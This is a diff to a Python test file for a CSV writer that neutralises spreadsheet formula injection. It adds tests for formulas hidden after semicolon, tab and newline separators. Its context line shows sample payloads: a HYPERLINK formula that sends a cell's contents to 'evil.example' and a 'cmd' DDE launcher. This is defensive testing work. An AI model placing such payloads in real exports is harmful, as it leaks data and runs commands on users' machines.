@@ -485,7 +485,43 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'
 def test_formula_like_text_is_neutralised_and_numbers_stay_numbers(text):
     out = io.StringIO()
     safe_csv.Writer(out).writerow([text, -12, 3.5, "plain", "a=1", None])
-    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + text, "-12", "3.5", "plain", "a=1", ""]
+    # A tab or carriage return also separates cells: the formula after it is defused too.
+    written = "'" + text.replace("\t=", "\t'=").replace("\r=", "\r'=")
+    assert next(csv.reader(io.StringIO(out.getvalue()))) == [written, "-12", "3.5", "plain", "a=1", ""]
+
+
+def formula_cells(body: str, delimiter: str) -> list[str]:
+    """Cells a spreadsheet splitting `body` on `delimiter` would run as formulas: text starting
+    with = + - @ (after spaces); a plain number such as -12 is a number, not a formula."""
+    found = []
+    for row in csv.reader(io.StringIO(body, newline=""), delimiter=delimiter):
+        for cell in row:
+            try:
+                float(cell)
+            except ValueError:
+                if cell.lstrip(" ").startswith(("=", "+", "-", "@")):
+                    found.append(cell)
+    return found
+
+
+HIDDEN_FORMULAS = ["x;=1+1;y", "x,=1+1,y", "x\t=1+1", "a;-2+3", "a, @SUM(A1)", 'a;"=1+1"', "a\n=1+1",
+                   "a\r\n+1", 'x;""=2+2', "ok; fine", "=1;+2,-3\t@4"]
+
+
+@pytest.mark.parametrize("text", HIDDEN_FORMULAS)
+def test_no_separator_inside_a_cell_starts_a_formula_whatever_the_spreadsheet_splits_on(text):
+    """A spreadsheet may split a CSV on ';' or a tab instead of ','; what follows such a
+    separator inside a cell must not start a formula there, in any column (issue 20)."""
+    out = io.StringIO()
+    writer = safe_csv.Writer(out, lineterminator="\r\n")
+    writer.writerow([text, -12, text, 3.5, text])
+    writer.writerow(["7", text])
+    body = out.getvalue()
+    for delimiter in (",", ";", "\t"):
+        assert formula_cells(body, delimiter) == [], (delimiter, body)
+    rows = list(csv.reader(io.StringIO(body, newline="")))
+    assert rows[0][1] == "-12" and rows[1][0] == "7"  # numbers stay numbers
+    assert rows[1][1].replace("'", "") == text  # the text itself is all there
 
 
 def test_the_takers_csv_neutralises_formulas_in_bank_text(app, client, real_bank):
